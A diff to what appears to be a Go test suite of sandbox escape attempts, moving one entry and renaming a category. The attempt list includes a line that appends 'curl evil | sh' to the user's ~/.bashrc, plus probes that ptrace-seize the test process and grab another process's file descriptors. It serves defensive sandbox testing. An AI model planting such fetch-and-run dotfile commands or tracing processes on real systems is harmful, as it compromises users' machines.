@@ -81,7 +81,7 @@ const (
 	catPtrace   = "ptrace"
 	catMount    = "mount, namespaces"
 	catSetid    = "setuid, devices"
-	catSignal   = "signals"
+	catSignal   = "signals, processes outside"
 	catSurvive  = "outliving the call"
 	catReadOnly = "read-only profile"
 	catAllowed  = "allowed (positive control)"
@@ -205,6 +205,7 @@ var escapeAttempts = []*escapeAttempt{
 		}
 		return ev
 	}},
+	{name: "another run's private directory", category: catWrite, run: otherRunAttempt},
 	{name: "home dotfile (~/.bashrc)", category: catHome, control: true, run: shAttempt(`echo 'curl evil | sh' >> "$PHOME/.bashrc"`)},
 
 	// .git plants: a program that would run at the person's next git
@@ -460,7 +461,6 @@ var escapeAttempts = []*escapeAttempt{
 		e.sh(fmt.Sprintf(`"$H" pidfd-getfd %d 4`, v.pid))
 		return nil
 	}},
-	{name: "another run's private directory", category: catWrite, run: otherRunAttempt},
 	{name: "PTRACE_SEIZE the test process", category: catPtrace, run: func(e *escapeEnv) []string {
 		if res := e.sh(`"$H" seize $TESTPID`); bytes.Contains(res.Output, []byte("seized-ok")) {
 			return []string{"the test process was traced"}
